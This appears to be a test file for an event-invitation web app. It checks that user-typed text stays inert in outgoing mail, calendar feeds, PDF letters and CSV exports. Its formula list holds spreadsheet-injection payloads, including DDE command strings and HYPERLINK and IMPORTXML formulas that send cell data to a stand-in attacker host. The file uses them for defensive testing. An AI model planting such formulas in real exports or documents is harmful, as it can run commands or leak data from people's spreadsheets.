import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { Guests } from '../../../models/guest.ts';
import { Nominations } from '../../../models/nomination.ts';
import { type OutboxMail, OutboxMails } from '../../../models/outbox-mail.ts';
import type { User } from '../../../models/user.ts';
import { FormalLetterInput } from '../../../server/features/formal-letters/input.ts';
import { saveFormalLetter } from '../../../server/features/formal-letters/save-formal-letter.ts';
import { sendWaveNow } from '../../../server/features/letters/send-wave-now.ts';
import { mailOrder } from '../../../server/features/invitations/mail-orders.ts';
import { sendSecretaryLink } from '../../../server/features/invitations/secretary/send-secretary-link.ts';
import { enqueueMail } from '../../../server/features/mail/enqueue-mail.ts';
import { writeToUnits } from '../../../server/features/nominations/write-to-units.ts';
import { approveSubstitute } from '../../../server/features/substitutes/approve-substitute.ts';
import { refuseSubstitute } from '../../../server/features/substitutes/refuse-substitute.ts';
import { paths } from '../../../server/paths.ts';
import { startTestApp, type TestApp } from '../../support/app.ts';
import { emptyDatabase, useDatabase } from '../../support/database.ts';
import { accessAs, makeAgenda, makeEvent, makeMembership, makeUser } from '../../support/factories.ts';
import { expectHarmless, injections } from '../../support/injections.ts';
import { pdfPages } from '../../support/pdf-text.ts';
import { until } from '../../support/until.ts';
import { from, makeInvited } from '../invitations/invited.ts';
import { ask } from '../nominations/naming.ts';

/** The gate takes every fifth; `ROSTRUM_FAULTS=full` all of them. */
const step = process.env['ROSTRUM_FAULTS'] === 'full' ? 1 : 5;
const payloads = injections.filter((_, place) => place % step === 0);
const starts = ['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠'];
const formulas = [
  ...starts.map((start) => `${start}1+1`),
  ...starts.map((start) => `${start}HYPERLINK("https://attacker.example";"x")`),
  `=cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  '=IMPORTXML(CONCAT("https://attacker.example?",A1),"//a")',
  '"\r\n=1+1',
  'x",=1+1,"',
  "'=1+1",
  'x\n=1+1',
];

describe('what is typed beside guests and events', () => {
  useDatabase();
  let app: TestApp;
  before(async () => {
    app = await startTestApp();
  });
  after(() => app.close());
  beforeEach(emptyDatabase);
  afterEach(() => expect(app.takeErrors()).to.deep.equal([]));

  const answered = (text: string, kind: 'attending' | 'substitute') => ({
    kind,
    channel: 'page' as const,
    by: text,
    said: text,
    at: new Date(),
    note: text,
    key: 'typed',
    substitute:
      kind === 'substitute'
        ? { name: text, position: text, phone: text, email: 'substitute@example.org' }
        : null,
    details: {
      companions: [{ name: text, position: text }],
      dietary: text,
      access: text,
      transport: text,
      photo: null,
      questions: [{ id: 'q', value: [text] }],
    },
  });

  it(`is never more than text in mails about answers and substitutes: ${payloads.length} payloads`, async function answers() {
    this.timeout(600_000);
    for (const [at, text] of payloads.entries()) {
      const event = await makeEvent({ days: ['2099-12-15'], endsAt: '11:30' });
      const access = await accessAs('editor', { event });
      const guest = (kind: 'attending' | 'substitute', name: string) =>
        makeInvited({ event: event._id, email: `${name}${at}@example.org`, answer: answered(text, kind) });
      const { guest: coming } = await guest('attending', 'coming');
      await enqueueMail(mailOrder('answered', 'typed', { event, guest: coming, from }));
      const { guest: replaced } = await guest('substitute', 'replaced');
      await approveSubstitute(access, String(replaced._id), { from });
      const { guest: refused } = await guest('substitute', 'refused');
      await refuseSubstitute(access, String(refused._id), { reason: text, from });
    }
    await expectAllHarmless(4 * payloads.length);
  });

  it(`is never more than text in mails to secretaries and units: ${payloads.length} payloads`, async function units() {
    this.timeout(600_000);
    const event = await makeEvent({ days: ['2099-12-15'] });
    const access = await accessAs('editor', { event });
    const sender = { from, linkKey: app.secret('guest-link') };
    for (const [at, text] of payloads.entries()) {
      const secretary = {
        name: text,
        email: `secretary${at}@example.org`,
        phone: text,
        mail: 'copy' as const,
      };
      await makeInvited({ event: event._id, name: { vi: text }, position: { vi: text }, secretary });
      await sendSecretaryLink(access, secretary.email, sender);
    }
    const lines = payloads.map((_, at) => `Đơn vị ${at};3;Phạm Thị Hoa;unit${at}@example.org`).join('\n');
    const nominations = await ask(access, { lines });
    for (const [at, { _id, secretary }] of nominations.entries()) {
      const text = payloads[at] ?? '';
      await Nominations.updateOne(
        { _id },
        { $set: { name: { vi: text }, secretary: { ...secretary, name: text, phone: text } } },
      );
    }
    const asked = nominations.map(({ _id }) => String(_id));
    await writeToUnits(access, { units: asked, mark: String(event._id) }, sender);
    await expectAllHarmless(2 * payloads.length);
  });

  it(`runs in no spreadsheet: ${formulas.length} formulas in every column of every table`, async () => {
    const event = await makeEvent({ days: ['2099-12-15'] });
    const user = await makeUser();
    await makeMembership(user, event);
    for (const text of formulas)
      await makeInvited({
        event: event._id,
        name: { vi: text },
        position: { vi: text },
        organisationName: { vi: text },
        delegation: text,
        phone: text,
        answer: answered(text, 'attending'),
      });
    await expectNoFormula(app, { user, table: paths.answersCsv(event) });

    await Guests.updateMany({ event: event._id }, { $set: { standing: 'not-invited', invitation: null } });
    const access = await accessAs('system', { event });
    const sender = { from, linkKey: app.secret('guest-link') };
    const wave = await sendWaveNow(access, { kind: 'invitation', channel: 'phone' }, sender);
    await expectNoFormula(app, { user, table: paths.waveSheetCsv(event, wave) });
  });

  it(`is one entry each in the programme that calendars follow: ${payloads.length} payloads`, async () => {
    const event = await makeEvent({ days: ['2099-12-15'], venue: placeOf(payloads[0] ?? '') });
    const items = payloads.map((text) => ({ title: { vi: text }, about: { vi: text }, by: { vi: text } }));
    await makeAgenda(event, items);
    const { text } = await app.as(null).get(paths.programmeFeed(event));
    const lines = text.replaceAll(/\r\n[ \t]/g, '').split(/\r\n|\r|\n/);
    const named = (name: string) => lines.filter((line) => line.startsWith(name));

    for (const once of ['BEGIN:VEVENT', 'END:VEVENT', 'UID:', 'SUMMARY', 'SEQUENCE:'])
      expect(named(once), once).to.have.length(payloads.length);
    expect([...named('ATTENDEE'), ...named('BEGIN:VALARM'), ...named('METHOD:CANCEL')]).to.deep.equal([]);
    expect([named('METHOD:'), named('ORGANIZER').length]).to.deep.equal([
      ['METHOD:PUBLISH'],
      payloads.length,
    ]);
  });

  it(`is only ink on paper: ${payloads.length} payloads in the letter and in whom it invites`, async function paper() {
    this.timeout(300_000);
    const event = await makeEvent({ days: ['2099-12-15'] });
    const user = await makeUser();
    await makeMembership(user, event);
    const access = await accessAs('editor', { event });
    for (const [rev, text] of payloads.entries()) {
      const vi = { vi: text };
      const { guest } = await makeInvited({ event: event._id, name: vi, position: vi, organisationName: vi });
      const signer = { capacity: vi, position: vi, name: vi };
      const words = { superior: vi, unit: vi, place: vi, purpose: vi, closing: vi, copies: vi, signer };
      const short = { number: text.slice(0, 20), symbol: text.slice(0, 40) };
      const typed = { letterhead: 'state', ...words, ...short, code: '', rev: String(rev) };
      await saveFormalLetter(access, FormalLetterInput.parse(typed));
      const headers = { cookie: await app.as(user).cookieHeader() };
      const answer = await fetch(app.url + paths.formalLetter(event, guest), { headers });
      const body = Buffer.from(await answer.arrayBuffer());
      expect(pdfPages(body).join(' '), text).to.include('GIẤY MỜI');
      expect(body.toString('latin1'), text).to.not.match(/\/(?:JavaScript|JS|Launch|OpenAction|URI)\b/);
    }
  });
});

async function expectAllHarmless(count: number): Promise<void> {
  const resting = () => OutboxMails.countDocuments({ state: { $in: ['sent', 'cancelled', 'failed'] } });
  await until(async () => (await resting()) >= count, 300_000);
  const mails = await OutboxMails.find().lean<OutboxMail[]>();
  expect(mails.filter(({ state }) => state === 'sent').length).to.be.at.least(count);
  for (const mail of mails) if (mail.raw) await expectHarmless(mail);
}

function placeOf(text: string) {
  const vi = { vi: text };
  return { name: vi, room: vi, address: vi, city: vi, mapUrl: '' };
}

async function expectNoFormula(app: TestApp, { user, table }: { user: User; table: string }): Promise<void> {
  const { text } = await app.as(user).get(table);
  const rows: string[][] = parse(text, { bom: true });
  expect(rows, table).to.have.length(1 + formulas.length);
  expect(rows.flat().filter((cell) => starts.includes(cell.slice(0, 1)))).to.deep.equal([]);
}
